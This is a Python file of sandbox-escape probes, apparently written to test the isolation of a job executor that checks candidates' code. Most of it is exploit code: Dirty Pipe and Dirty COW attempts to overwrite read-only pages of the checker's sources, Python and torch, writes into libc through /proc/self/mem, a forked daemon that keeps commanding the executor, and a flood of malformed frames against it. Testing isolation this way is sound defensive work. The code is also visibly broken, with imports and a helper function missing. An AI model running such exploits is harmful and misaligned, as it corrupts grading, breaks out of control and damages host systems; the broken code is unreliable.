"""Attempts at what a job shares with the executor (a socket) and with everybody (pages of files that are mapped
read-only)."""

import ctypes
import fcntl
import json
import mmap
import os
import struct
import threading


def _sockets():
    """Numbers of open descriptors that are sockets."""
    found = []
    for number in range(3, 64):
        try:
            if "socket" in os.readlink(f"/proc/self/fd/{number}"):
                found.append(number)
        except OSError:
            pass
    return found


def _mappings(word, rights="r"):
    with open("/proc/self/maps", encoding="ascii", errors="replace") as maps:
        lines = [line.split() for line in maps]
    return [int(line[0].split("-")[0], 16) for line in lines if word in line[-1] and line[1].startswith(rights)]


def _through_proc_mem(address, data=b"escape"):
    """The way debuggers write into pages that are mapped read-only."""
    with open("/proc/self/mem", "r+b", buffering=0) as memory:
        memory.seek(address)
        return memory.write(data)


def find_memory_of_tensors():
    """No memory of files is shared, and where tensors are nothing is mapped, nor can anything of theirs be."""
    x = torch.empty(4, device="cuda")
    said = [_mappings("memfd"), [fd for fd in os.listdir("/proc/self/fd") if "memfd" in _target(fd)]]
    if said != [[], []]:
        raise AssertionError(f"there is shared memory: {said}")
    for path in ("/proc/self/mem", "/proc/self/map_files"):
        said.append(each(read=lambda path=path: _read_at(path, x.data_ptr())))
    return said


def _target(fd):
    try:
        return os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        return ""


def _read_at(path, address):
    with open(path, "rb", buffering=0) as memory:
        memory.seek(address)
        raise AssertionError(f"read {memory.read(16)!r}")


def a_child_that_talks_too():
    """A daemon goes on to command the executor, for the next candidate."""
    fds = _sockets()
    if os.fork() != 0:
        return f"left with {fds}"
    try:
        os.setsid()
        while True:
            for fd in fds:
                os.write(fd, _frame(json.dumps({"do": "free", "free": [1]}).encode()))
            time.sleep(0.01)
    finally:
        time.sleep(1000)


def write_to_pages_of_read_only_files():
    """Pages of the checker's sources and of Python are shared with every worker: by a pipe that holds one
    (CVE-2022-0847), by a private mapping and a race (CVE-2016-5195), by the debugger's way."""
    import client.job

    said = []
    for path in (client.job.__file__, "/usr/bin/python3", torch.__file__):
        fd = os.open(path, os.O_RDONLY)
        said.append(each(pipe=lambda fd=fd: _dirty_pipe(fd), mapping=lambda fd=fd: _dirty_cow(fd)))
        with open(path, "rb") as file:
            said.append("escape" in file.read(64).decode("latin-1"))
    libraries = _mappings("libc.so", "r-")
    return said + [each(proc_mem=lambda: _through_proc_mem(libraries[0] + 16, b"\0"))]


def _dirty_pipe(fd):
    ends = os.pipe()
    size = fcntl.fcntl(ends[1], 1032)
    for begin in range(0, size, 4096):
        os.write(ends[1], bytes(4096))
        os.read(ends[0], 4096)
    os.splice(fd, ends[1], 1, offset_src=3)
    return os.write(ends[1], b"escape")


def _dirty_cow(fd):
    area = mmap.mmap(fd, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    address = ctypes.c_void_p()
    for candidate in _mappings(os.readlink(f"/proc/self/fd/{fd}"), "r-"):
        address = candidate
    end = time.monotonic() + 0.2

    def forget():
        while time.monotonic() < end:
            area.madvise(mmap.MADV_DONTNEED)

    thread = threading.Thread(target=forget)
    thread.start()
    while time.monotonic() < end:
        _through_proc_mem(address)
    thread.join()
    return "raced"


def _frame(header, payload=b""):
    return struct.pack("<II", len(header), len(payload)) + header + payload


def flood_the_executor():
    """Frames whose contents make no sense, and bytes that are no frame, as many as go."""
    texts = [b"", b"{}", b"{" * 100000, b'"' + b"x" * 100000 + b'"', b"[" * 60000 + b"]" * 60000, b"\xff" * 100]
    texts += [json.dumps({"do": "op", name: 10**400}).encode() for name in ("name", "args", "kwargs", "line", "free")]
    frames = [_frame(text) for text in texts] + [struct.pack("<II", 1 << 31, 1 << 31), b"\xff" * 1000]
    said = 0
    for fd in _sockets():
        os.set_blocking(fd, False)
        end = time.monotonic() + 1
        while time.monotonic() < end:
            try:
                os.write(fd, frames[said % len(frames)])
                said += 1
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                break
        os.set_blocking(fd, True)
    return f"{said} messages"


def close_the_channel_and_stay():
    for fd in _sockets():
        os.close(fd)
    time.sleep(1000)


def shut_the_channel_down_and_stay():
    """Both directions, by a call on the socket itself, so that the supervisor's copy of this end is shut as well."""
    for fd in _sockets():
        socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
    time.sleep(1000)
